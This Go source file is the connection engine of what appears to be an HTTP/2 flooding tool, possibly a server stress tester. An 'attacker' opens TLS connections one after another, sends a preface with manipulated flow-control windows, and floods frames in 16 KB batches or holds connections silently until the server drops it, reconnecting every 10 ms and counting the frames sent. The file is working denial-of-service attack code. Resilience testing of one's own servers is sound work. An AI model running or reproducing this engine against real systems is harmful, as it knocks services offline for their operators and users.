package main

import (
	"context"
	"crypto/tls"
	"fmt"
	"net"
	"time"
)

const (
	attackBatch = 16 << 10               // bytes written at a time: a TLS record
	attackRetry = 10 * time.Millisecond  // after a connection that did not come about
	attackRead  = 500 * time.Millisecond // for the server's last words to one that it threw out
)

// attacker attacks over one connection at a time, and makes the next as soon as
// it is thrown out.
type attacker struct {
	attack attack
	probe  probe
	limit  time.Duration // deadline of a connection
	begun  func()        // called once the first connection stands
	tally  tally
}

// tally is what an attacker counted.
type tally struct {
	Connections int
	Frames      int64 // of the attack, written
	Received    received
	Failure     string // why the last connection did not come about; empty: all did
}

// newAttacker is an attacker of the probe's port.
func newAttacker(a attack, p probe, limit time.Duration) *attacker {
	p.protocol = "h2"
	return &attacker{attack: a, probe: p, limit: limit, begun: func() {}}
}

// run attacks until it is canceled.
func (k *attacker) run(ctx context.Context) tally {
	for ctx.Err() == nil {
		err := k.connect(ctx)
		if err == nil || ctx.Err() != nil {
			continue
		}
		if k.tally.Failure = err.Error(); pause(ctx, attackRetry) != nil {
			break
		}
	}
	return k.tally
}

// connect attacks over one connection, until that ends. Only a connection that
// did not come about is an error.
func (k *attacker) connect(ctx context.Context) error {
	conn, err := k.probe.dial(ctx)
	if err != nil {
		return err
	}
	defer hangUp(conn)
	stop := context.AfterFunc(ctx, func() { hangUp(conn) })
	defer stop()
	if err := conn.SetDeadline(time.Now().Add(k.limit)); err != nil {
		return fmt.Errorf("deadline of a connection: %w", err)
	}
	r := newFrameReader(conn)
	if err := k.greet(conn, r); err != nil {
		return err
	}
	if k.tally.Connections++; k.tally.Connections == 1 {
		k.begun()
	}
	k.abuse(ctx, conn, r)
	k.tally.Received.add(r.received)
	return nil
}

// hangUp closes the TCP connection; TLS would first wait until the server takes
// its good-bye.
func hangUp(conn net.Conn) {
	if secure, ok := conn.(*tls.Conn); ok {
		conn = secure.NetConn()
	}
	conn.Close()
}

// greet begins the connection as every client does, and waits for the server to
// do so: from then on the reader need not write.
func (k *attacker) greet(conn net.Conn, r *frameReader) error {
	f := &frames{bytes: []byte(preface)}
	f.setting(settingInitialWindowSize, k.attack.window)
	f.windowUpdate(0, mostWindow-firstWindow-roomForOnes)
	if _, err := conn.Write(f.bytes); err != nil {
		return fmt.Errorf("preface: %w", err)
	}
	if err := r.awaitSettings(); err != nil {
		return err
	}
	f.reset()
	f.add(frameSettings, flagAck, 0, nil)
	if _, err := conn.Write(f.bytes); err != nil {
		return fmt.Errorf("acknowledge SETTINGS: %w", err)
	}
	return nil
}

// roomForOnes is how far the window stays below the most that it may be, so
// that small WINDOW_UPDATEs do not go past it.
const roomForOnes = 1 << 30

// abuse writes until the server throws the attacker out, with a reader beside
// it, or after it if the attack is deaf.
func (k *attacker) abuse(ctx context.Context, conn net.Conn, r *frameReader) {
	out := make(chan struct{})
	read := func() { // ends when the server or hangUp closes, or at the deadline
		defer close(out)
		r.run(k.attack.answers)
		_ = conn.SetWriteDeadline(time.Now()) // a writer that is still at it is not heard any more
	}
	if !k.attack.deaf {
		go read()
	}
	k.write(ctx, conn, out)
	_ = conn.SetReadDeadline(time.Now().Add(attackRead)) // it fails on a closed connection, and so does the reader
	if k.attack.deaf {
		go read()
	}
	<-out
}

// write writes the attack's frames until that fails or out is closed.
func (k *attacker) write(ctx context.Context, conn net.Conn, out <-chan struct{}) {
	f := &frames{bytes: make([]byte, 0, 2*attackBatch)}
	if k.attack.open != nil {
		k.attack.open(f)
		if k.flush(conn, f) != nil {
			return
		}
	}
	if k.attack.flood == nil {
		k.beSilent(ctx, conn, out)
		return
	}
	for !isClosed(out) {
		for f.reset(); len(f.bytes) < attackBatch; {
			k.attack.flood(f)
		}
		if k.flush(conn, f) != nil {
			return
		}
	}
}

// isClosed reports whether a channel that nothing is sent on is closed.
func isClosed(c <-chan struct{}) bool {
	select {
	case <-c:
		return true
	default:
		return false
	}
}

// flush writes frames and counts them.
func (k *attacker) flush(conn net.Conn, f *frames) error {
	_, err := conn.Write(f.bytes)
	if err == nil {
		k.tally.Frames += f.count
	}
	return err
}

// beSilent keeps the connection for as long as the attack wants.
func (k *attacker) beSilent(ctx context.Context, conn net.Conn, out <-chan struct{}) {
	var leave <-chan time.Time
	if k.attack.silence > 0 {
		timer := time.NewTimer(k.attack.silence)
		defer timer.Stop()
		leave = timer.C
	}
	select {
	case <-out:
	case <-leave:
		hangUp(conn)
	case <-ctx.Done():
	}
}
